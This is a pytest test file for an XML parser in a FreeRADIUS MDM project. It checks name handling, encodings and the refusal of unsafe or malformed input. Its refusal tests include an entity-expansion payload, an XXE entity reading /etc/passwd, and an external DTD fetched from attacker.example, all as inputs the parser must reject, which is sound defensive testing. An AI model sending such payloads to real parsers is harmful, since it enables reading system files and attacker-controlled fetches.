import pytest

from freeradius_mdm.mdm.crs_xml import XmlRefused, parse

LIMIT = 10_000


def test_names_are_local_and_lower_case() -> None:
    root = parse(b'<x:Root xmlns:x="urn:a" xmlns:i="urn:b"><x:Child i:nil="true"/><Other> a b </Other></x:Root>', LIMIT)
    assert root.name == "root"
    assert [child.name for child in root.children] == ["child", "other"]
    assert root.child("child") is None  # nil counts as absent
    assert root.value("other") == "a b"


def test_an_empty_element_has_no_value() -> None:
    assert parse(b"<a><b/><c> </c></a>", LIMIT).value("b") is None
    assert parse(b"<a><b/><c> </c></a>", LIMIT).value("c") is None


TEXT = '<?xml version="1.0" encoding="{}"?><a><b>Gerät</b></a>'


@pytest.mark.parametrize(
    "body",
    [
        TEXT.format("utf-8").encode(),
        b"\xef\xbb\xbf" + TEXT.format("utf-8").encode(),
        "<a><b>Gerät</b></a>".encode(),
        TEXT.format("iso-8859-1").encode("iso-8859-1"),
        TEXT.format("windows-1252").encode("windows-1252"),
        b"\xff\xfe" + TEXT.format("utf-16").encode("utf-16-le"),
        b"\xfe\xff" + TEXT.format("utf-16").encode("utf-16-be"),
    ],
)
def test_encodings(body: bytes) -> None:
    assert parse(body, LIMIT).value("b") == "Gerät"


LAUGHS = b'<!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;">]><a>&m;</a>'
EXTERNAL = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


@pytest.mark.parametrize(
    ("body", "word"),
    [
        # what could do harm
        (LAUGHS, "document type"),
        (EXTERNAL, "document type"),
        (b'<!DOCTYPE a SYSTEM "http://attacker.example/x.dtd"><a/>', "document type"),
        (b"<a>" * 40 + b"</a>" * 40, "nested"),
        (b"<a>" + b" " * LIMIT + b"</a>", "bytes"),
        # what is something else
        (b"", "empty"),
        (b"  \r\n", "empty"),
        (b'{"a": 1}', "JSON"),
        (b"\xef\xbb\xbf[]", "JSON"),
        (b"<!DOCTYPE html><html></html>", "HTML"),
        (b"\n<HTML><body>", "HTML"),
        # what is broken
        (b"<a><b></a>", "well-formed"),
        (b"<a/><b/>", "well-formed"),
        (b"<a>&nbsp;</a>", "well-formed"),
        (b"<a>\xff</a>", "well-formed"),
        (b'<?xml version="1.0" encoding="no-such"?><a/>', "encoding"),
        (b"plain text", "well-formed"),
    ],
)
def test_refused(body: bytes, word: str) -> None:
    with pytest.raises(XmlRefused, match=word):
        parse(body, LIMIT)
